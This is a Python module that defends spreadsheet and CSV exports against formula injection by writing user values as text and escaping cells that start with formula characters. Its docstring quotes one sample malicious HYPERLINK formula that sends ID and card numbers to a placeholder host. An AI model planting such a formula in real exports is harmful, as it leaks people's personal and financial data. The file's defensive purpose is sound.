"""Spreadsheet and CSV exports treat every user-typed value as text, never as a formula.

A name such as ``=HYPERLINK("http://x/"&F2,"点击")`` must reach the bank or the county as the characters
typed, not as a live formula that sends ID and card numbers out when the file is opened. Every export
builds its workbook through `xlsx_workbook` (xlsxwriter with formula, URL and number guessing off) and
every CSV cell goes through `csv_cell` (a leading = + - @ or control character is prefixed with an
apostrophe, the OWASP recipe)."""
from __future__ import annotations

import csv

import xlsxwriter

# xlsxwriter guesses formulas (a string starting with "=") and URLs by default; both are switched off, and
# numbers stay as typed text.
XLSX_OPTIONS = {"strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False}

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00")


def xlsx_workbook(target, options: dict | None = None) -> xlsxwriter.Workbook:
    """An xlsxwriter workbook that writes every str as a string cell (never a formula or a hyperlink)."""
    return xlsxwriter.Workbook(target, {**(options or {}), **XLSX_OPTIONS})


def csv_cell(value):
    """A CSV cell that a spreadsheet will not evaluate: text starting with = + - @ or a control character
    gets a leading apostrophe. Numbers (int, Decimal) pass as they are."""
    if not isinstance(value, str):
        return value
    if value and (value.startswith(FORMULA_STARTS) or ord(value[0]) < 0x20 or ord(value[0]) == 0x7F):
        return "'" + value
    return value


def csv_row(values) -> list:
    return [csv_cell(v) for v in values]


class SafeCsvWriter:
    """csv.writer whose rows are neutralised cell by cell; the only CSV writer exports use."""

    def __init__(self, stream, **kwargs):
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row):
        return self._writer.writerow(csv_row(row))

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def openpyxl_text(cell, value) -> None:
    """Write a value into an openpyxl cell as text: a str is never taken for a formula."""
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"
